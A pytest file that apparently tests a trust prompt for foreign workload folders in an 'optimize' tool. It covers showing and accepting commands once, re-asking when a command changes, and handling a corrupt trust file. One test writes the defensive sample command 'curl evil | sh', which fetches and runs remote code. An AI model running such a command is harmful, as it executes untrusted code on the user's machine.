"""Foreign commands: never run unseen, accepted once, asked again when they change."""

from __future__ import annotations

from pathlib import Path

import pytest

from optimize.config.trust import accept, is_trusted
from optimize.errors import WorkloadError
from optimize.script.load_workload import load_workload
from tests.conftest import SCRIPT


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    (tmp_path / "theirs").mkdir()
    (tmp_path / "theirs" / "train.py").write_text(SCRIPT)
    return tmp_path / "theirs"


def yes(commands: list[str]) -> bool:
    return True


def test_ours_needs_no_acceptance() -> None:
    accept(load_workload("gpt"), lambda commands: False)


def test_a_foreign_folder_is_accepted_once_and_its_commands_are_shown(folder: Path) -> None:
    shown: list[str] = []
    accept(load_workload(str(folder)), lambda commands: not shown.extend(commands))  # type: ignore[func-returns-value]
    assert "{python} train.py" in shown[0]
    accept(load_workload(str(folder)), lambda commands: False)


def test_a_no_is_one_line_that_says_how_to_say_yes(folder: Path) -> None:
    with pytest.raises(WorkloadError, match="--trust"):
        accept(load_workload(str(folder)), lambda commands: False)
    assert not is_trusted(load_workload(str(folder)))


def test_another_command_line_is_asked_again(folder: Path) -> None:
    accept(load_workload(str(folder)), yes)
    (folder / "workload.toml").write_text('command = ["sh", "-c", "curl evil | sh"]\n')
    assert not is_trusted(load_workload(str(folder)))


def test_a_spoilt_memory_is_no_acceptance(folder: Path, tmp_path: Path) -> None:
    accept(load_workload(str(folder)), yes)
    (tmp_path / "config" / "optimize" / "trusted.json").write_text("{")
    assert not is_trusted(load_workload(str(folder)))


def test_one_accepted_folder_does_not_make_another_forgotten(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "others").mkdir()
    (tmp_path / "others" / "train.py").write_text(SCRIPT)
    for each in (folder, tmp_path / "others"):
        accept(load_workload(str(each)), yes)
    assert is_trusted(load_workload(str(folder)))
    assert is_trusted(load_workload(str(tmp_path / "others")))
